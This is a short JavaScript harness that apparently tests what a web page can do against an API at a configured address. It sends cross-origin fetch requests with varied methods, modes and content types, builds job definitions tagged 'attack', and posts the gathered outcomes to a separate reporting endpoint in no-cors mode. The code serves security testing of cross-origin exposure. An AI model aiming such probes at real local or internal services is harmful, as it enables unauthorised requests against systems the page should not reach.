// What a page can try against the API at settings.api; each attempt says what the page got to know.
const outcomes = {};

async function attempt(name, work) {
  try {
    outcomes[name] = await work();
  } catch (error) {
    outcomes[name] = "failed";
  }
}

const answerOf = async (response) => ({ status: response.status, text: await response.text() });

const send = (method, path, body, type, mode) => async () =>
  answerOf(await fetch(settings.api + path, {
    method, mode, body: body === null ? undefined : JSON.stringify(body), headers: type ? { "Content-Type": type } : {},
  }));

const definition = (alias) => ({ alias, group_name: "attack", image: "base", memory: 16, command: "true" });

async function report() {
  await fetch(settings.reportTo, { method: "POST", mode: "no-cors", body: JSON.stringify(outcomes) });
}
